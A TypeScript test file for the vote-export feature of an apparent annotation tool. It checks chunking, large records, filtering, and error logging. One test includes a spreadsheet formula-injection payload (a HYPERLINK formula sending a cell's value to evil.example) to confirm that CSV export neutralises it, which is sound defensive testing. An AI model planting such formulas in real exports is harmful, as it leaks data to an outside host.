/** The table of the store's votes: what it holds in memory, what is in it, and that a break is logged. */
import { assert, it } from "@effect/vitest"
import { Effect, Stream } from "effect"
import { parse } from "csv-parse/sync"
import type { VoteRow } from "../../../src/domain/VoteRow.ts"
import * as VotesApi from "../../../src/service/http/VotesApi.ts"
import { Desk } from "../../../src/service/store/Desk.ts"
import { create, crew, judge, next, prompts, store, voteFor } from "./support.ts"
import { testOver } from "../../support/effectTest.ts"
import * as Logs from "../../support/logs.ts"

const test = testOver(store(":memory:"))

const chunksOf = (filter: Parameters<Desk["Service"]["exportVotes"]>[1] = {}) =>
  Effect.flatMap(Desk, ({ exportVotes }) => Stream.runCollect(exportVotes("jsonl", filter)))

const rowsOf = (chunks: ReadonlyArray<Uint8Array>) =>
  chunks
    .map((chunk) => new TextDecoder().decode(chunk))
    .join("")
    .split("\n")
    .slice(0, -1)
    .map((line) => JSON.parse(line) as VoteRow)

test("comes in chunks of some 64 kB, or of one record", function* () {
  const { ann, bob } = yield* crew("ann", "bob")
  const long = "x".repeat(100_000)
  yield* create([[long, "a", "b"], ...prompts(150)], { votes: 2 })
  for (const person of [ann, bob]) for (let i = 0; i < 151; i++) yield* judge(person, "a")
  const chunks = yield* chunksOf()
  assert.deepStrictEqual(
    rowsOf(chunks).map(({ expert, prompt }) => [prompt, expert]),
    [long, ...prompts(150).map(([prompt]) => prompt)].flatMap((prompt) => [ann, bob].map((person) => [prompt, person])),
  )
  for (const chunk of chunks) assert.isBelow(chunk.length, 64 * 1024 + long.length + 1_000)
  // Nor a chunk for each record.
  assert.isBelow(chunks.length, 10)
})

test("has all votes, where those of few items are large", function* () {
  const { ann, bob, queue } = yield* crew("ann", "bob")
  yield* create(prompts(3), { votes: 2 })
  const rationale = "y".repeat(1_500_000)
  for (let i = 0; i < 6; i++) {
    const item = yield* next(i < 3 ? ann : bob)
    yield* queue.vote(i < 3 ? ann : bob, item.item_id, voteFor(item, "a", rationale))
  }
  const rows = rowsOf(yield* chunksOf())
  assert.deepStrictEqual(
    rows.map(({ expert, prompt }) => [prompt, expert]),
    prompts(3).flatMap(([prompt]) => [ann, bob].map((person) => [prompt, person])),
  )
  assert.isTrue(rows.every((row) => row.rationale === rationale))
  assert.lengthOf(rowsOf(yield* chunksOf({ expert: bob })), 3)
})

test("has no formulas in CSV; JSON Lines and raw CSV have the texts as they are", function* () {
  const { ann, desk, queue } = yield* crew("ann")
  const link = '=HYPERLINK("http://evil.example/?x="&B1,"click")'
  yield* create([["'=1", link, "b"]])
  const item = yield* next(ann)
  yield* queue.vote(ann, item.item_id, voteFor(item, link, link))
  const recordOf = Effect.fnUntraced(function* (raw: boolean) {
    const text = yield* Stream.mkString(Stream.decodeText(desk.exportVotes("csv", {}, raw)))
    const [record] = parse(text, { columns: true }) as ReadonlyArray<Record<string, string>>
    return record
  })
  // A list is JSON.
  const completions = JSON.stringify([link, "b"])
  assert.deepInclude(yield* recordOf(false), { prompt: "''=1", rationale: `'${link}`, completions })
  assert.deepInclude(yield* recordOf(true), { prompt: "'=1", rationale: link, completions })
  assert.deepInclude(rowsOf(yield* chunksOf())[0], { prompt: "'=1", rationale: link })
})

test("has a lead's decision on a prompt without votes; neither withdrawn prompts nor cancelled tasks", function* () {
  const { ann, desk, taskStore } = yield* crew("ann")
  const cancelled = yield* create([["sky", "blue", "green"]], { votes: 2 })
  const taskId = yield* create([["grass", "green", "blue"], ["snow", "white", "black"], ...prompts(1)], { votes: 2 })
  yield* judge(ann, "blue", "green", "white")
  yield* taskStore.cancel(cancelled)
  yield* desk.withdrawPrompt(taskId, 1, "", "Lea")
  yield* desk.decide({ taskId, promptIndex: 2, choice: 0, rationale: "", operator: "Lea" })
  assert.deepStrictEqual(
    rowsOf(yield* chunksOf()).map(({ expert, prompt }) => [prompt, expert]),
    [
      ["grass", ann],
      ["p0", "Lea"],
    ],
  )
})

it.effect("a table that breaks off is logged, whatever the cause", () => {
  const { during, messages } = Logs.make()
  return Effect.gen(function* () {
    const desk = yield* Desk
    const broken = { ...desk, exportVotes: () => Stream.die(new RangeError("Invalid string length")) }
    const { body } = VotesApi.respond(broken, "jsonl", {})
    assert.strictEqual(body._tag, "Stream")
    if (body._tag === "Stream") yield* Effect.exit(Stream.runDrain(body.stream))
    assert.include(messages.join("\n"), "The vote export failed before all votes were sent")
  }).pipe(Effect.provide(store(":memory:")), during)
})
